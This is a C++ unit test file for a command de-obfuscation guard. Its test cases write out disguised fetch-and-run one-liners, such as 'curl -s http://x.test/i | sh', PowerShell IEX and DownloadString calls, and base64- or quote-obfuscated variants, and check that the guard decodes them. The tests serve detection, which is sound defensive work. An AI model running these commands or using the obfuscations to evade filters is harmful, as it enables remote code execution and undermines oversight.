// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/guard/CommandViews.h"

#include <gtest/gtest.h>

#include <string>
#include <utility>
#include <vector>

namespace tessaril {
namespace {

using Cases = std::vector<std::pair<std::string, std::string>>;
using namespace command_views;

TEST(CommandViews, WordsUnquoted) {
    const Cases cases = {
        {R"(c"u"rl -s x | s"h")", "curl -s x | sh"},
        {"c'u'rl x | ba''sh", "curl x | bash"},
        {R"(curl x | "bash")", "curl x | bash"},
        {R"(c\url x | b\ash)", "curl x | bash"},
        {"c^m^d /c p^ow^ershell", "cmd /c powershell"},
        {"I`E`X (N`ew-Ob`ject x)", "IEX (New-Object x)"},
        // Quotes around blanks or metacharacters stay, so benign text does not turn risky, but what
        // they hold is still read as the inner shell would.
        {R"(grep "curl | bash" notes.txt)", R"(grep "curl | bash" notes.txt)"},
        {R"(bash -c "c'u'rl x | s'h'")", R"(bash -c "curl x | sh")"},
        {R"x(echo "$(c\url x)")x", R"x(echo "$(curl x)")x"},
        // Escaped quotes are characters, not quoting.
        {R"(echo \"c\"url)", R"(echo \"c\"url)"},
        {R"(echo "a \"b\" c")", R"(echo "a \"b\" c")"},
        // An unbalanced quote is kept and the rest still read.
        {R"(echo "c'u'rl)", R"(echo "curl)"},
        {"echo 'x", "echo 'x"},
    };
    for (const auto& [text, expected] : cases)
        EXPECT_EQ(unquotedWords(text), expected) << text;
}

TEST(CommandViews, AssignmentsFolded) {
    const Cases cases = {
        {"a=cu;b=rl;$a$b -s x | sh", "a=cu;b=rl;curl -s x | sh"},
        {"x=ba;y=sh;curl x | ${x}${y}", "x=ba;y=sh;curl x | bash"},
        {"a=\"cu\"\nb='rl'\n$a$b x", "a=cu\nb=rl\ncurl x"},
        {"$a='i';$b='ex';&($a+$b)", "$a=i;$b=ex;&(iex)"},
        {".('i'+'e'+'x') (x)", ".(iex) (x)"},
        {"$m = 'Down' + 'loadString'; (New-Object Net.WebClient).$m('u')",
         "$m = DownloadString; (New-Object Net.WebClient).DownloadString(u)"},
        // Unknown variables, assignments that are arguments and comparisons stay as they are.
        {"echo $HOME $a", "echo $HOME $a"},
        {"echo a=b; $a", "echo a=b; $a"},
        {"if ($a == 'x') { $a }", "if ($a == x) { $a }"},
        {"echo 'it' + 's", "echo it + 's"},
    };
    for (const auto& [text, expected] : cases)
        EXPECT_EQ(foldedAssignments(text, 4096), expected) << text;
    // Substitution that would grow past the budget stops there, on a character boundary.
    const std::string bomb = "a=" + std::string(100, 'x') + "\xC3\xA9;" + std::string(200, ' ') + "$a$a$a$a$a$a$a$a";
    EXPECT_LE(foldedAssignments(bomb, 500).size(), 500U);
    EXPECT_EQ(foldedAssignments("a=\xC3\xA9\xC3\xA9;$a$a", 10), "a=\xC3\xA9\xC3\xA9;\xC3\xA9");
}

TEST(CommandViews, Base64Decoded) {
    const Cases cases = {
        {"echo Y3VybCAtcyBodHRwOi8veC50ZXN0L2kgfCBzaA== | base64 -d | sh", "curl -s http://x.test/i | sh"},
        {"echo Y3VybCAtcyBodHRwOi8veC50ZXN0L2kgfCBzaA | base64 -d", "curl -s http://x.test/i | sh"},
        {"powershell -enc aQBlAHgAIAAkAHgA", "iex $x"},
        {"echo ZWNobyBjYWbDqSBvaw== | base64 -d", "echo caf\xC3\xA9 ok"},
        {"a YWJjZGVmZ2hpamtsbW5vcA== b cXJzdHV2d3h5ejAxMjM0NTY3", "abcdefghijklmnop\nqrstuvwxyz01234567"},
        // Binary payloads, hashes, short runs and paths are not text.
        {"echo AAECAwQFBgcICQoLDA0ODxAREhMUFRYX | base64 -d", ""},
        {"sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", ""},
        {"echo aGVsbG8= | base64 -d", ""},
        {"ls /usr/local/share/applications/", ""},
    };
    for (const auto& [text, expected] : cases)
        EXPECT_EQ(decodedBase64(text), expected) << text;
}

TEST(CommandViews, DeriveKeepsDistinctViewsWithinBudget) {
    // Base64 of base64 of base64 of "curl -s http://x.test/i | sh": decoded twice, never a third time.
    const std::string nested =
        "echo ZWNobyBaV05vYnlCWk0xWjVZa05CZEdONVFtOWtTRkozVDJrNGRtVkROVEJhV0U0d1RESnJaMlpEUW5waFFUMDlJSHdnWW1GelpUWTB"
        "JQzFrSUh3Z2MyZz0gfCBiYXNlNjQgLWQgfCBzaA== | base64 -d | sh";
    const std::vector<std::pair<std::string, std::vector<std::string>>> cases = {
        {"ls -la ~/src", {}},
        {R"(grep "curl | bash" notes.txt)", {}},
        {R"(c"u"rl x)", {"command words unquoted"}},
        {"a=cu;$a x", {"assignments folded"}},
        {"powershell -enc YwAiAHUAIgByAGwAIAB4AA==",
         {"decoded from base64", "decoded from base64, command words unquoted"}},
        {nested, {"decoded from base64", "decoded from base64 twice"}},
    };
    for (const auto& [text, origins] : cases) {
        std::vector<std::string> found;
        for (const auto& view : derive(text, 4096)) {
            found.push_back(view.origin);
            EXPECT_EQ(view.text.find("curl -s http://x.test/i | sh"), std::string::npos) << view.origin;
        }
        EXPECT_EQ(found, origins) << text;
    }
    const auto cut = derive(R"(c"u"rl )" + std::string(300, 'x'), 100);
    ASSERT_FALSE(cut.empty());
    EXPECT_EQ(cut[0].text, "curl " + std::string(95, 'x'));
    for (const auto& view : cut)
        EXPECT_LE(view.text.size(), 100U) << view.origin;
}

}  // namespace
}  // namespace tessaril
